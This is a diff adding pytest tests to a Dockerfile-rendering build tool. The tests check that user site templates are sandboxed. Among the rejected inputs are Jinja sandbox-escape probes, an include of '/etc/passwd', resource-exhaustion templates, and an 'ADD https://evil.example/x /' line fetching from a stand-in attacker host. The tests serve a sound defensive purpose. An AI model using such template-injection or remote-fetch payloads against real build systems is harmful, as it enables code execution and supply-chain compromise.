@@ -14,10 +14,11 @@ from hypothesis import strategies as st
 
 from twinbuild.codec.lock import decode_lock
 from twinbuild.codec.spec import SourceText, load_spec
+from twinbuild.errors import SpecError
 from twinbuild.model.digest import Digest
 from twinbuild.model.plan import Compressor, Derivation
 from twinbuild.pipeline.plan import Tooling, make_plan
-from twinbuild.render.dockerfile import render_dockerfile
+from twinbuild.render.dockerfile import SiteTemplate, render_dockerfile
 
 ROOT = Path(__file__).resolve().parents[3]
 GOLDEN = Path(__file__).parent / "golden"
@@ -122,3 +123,48 @@ def test_without_byte_code_and_model() -> None:
     bare = replace(derivation, layers=tuple(layer for layer in derivation.layers if "artifact" not in layer.title))
     assert "model/" not in _rendered(bare)
     assert "# syntax" not in _rendered(derivation)
+
+
+_EXTENDED = '{% extends "Dockerfile.j2" %}{% block application %}# ours\n{{ super() }}{% endblock %}'
+
+
+def _site(text: str) -> str:
+    site = SiteTemplate(name="site.j2", text=text)
+    return render_dockerfile(
+        TEMPLATE, _derivation("fraud-scorer"), base_diff_id="sha256:" + "0" * 64, pip="26.3", site=site
+    )
+
+
+def test_a_site_template_extends_ours() -> None:
+    """A block is overridden, and what it overrides is still at hand."""
+    ours, theirs = _rendered(_derivation("fraud-scorer")), _site(_EXTENDED)
+    assert [line for line in theirs.split("\n") if line not in ours.split("\n")] == ["# ours"]
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("{{ nothing }}", "'nothing' is undefined"),
+        ("{% block x %}", "Unexpected end of template"),
+        ('{% include "/etc/passwd" %}', "TemplateNotFound"),
+        ('{% extends "other.j2" %}', "TemplateNotFound"),
+        ("{{ ''.__class__.__mro__ }}", "unsafe"),
+        ("{{ environment.append(1) }}", "unsafe"),
+        ("{{ 1 / 0 }}", "ZeroDivisionError"),
+        ("{% for i in range(10000000) %}x{% endfor %}", "OverflowError"),
+        ("{{ 'x' * 2000000 }}", "2000000 characters"),
+    ],
+)
+def test_a_site_template_that_fails(text: str, said: str) -> None:
+    """Jinja's sandbox and limits hold, and the template is named."""
+    with pytest.raises(SpecError) as caught:
+        _site(text)
+    (finding,) = caught.value.findings
+    assert (finding.code, finding.where.file) == ("TB5230", "site.j2")
+    assert said in finding.message
+
+
+def test_a_site_template_that_would_fetch() -> None:
+    """What it adds is looked at as a Dockerfile."""
+    with pytest.raises(SpecError, match="TB5231"):
+        _site(_EXTENDED.replace("# ours", "ADD https://evil.example/x /"))
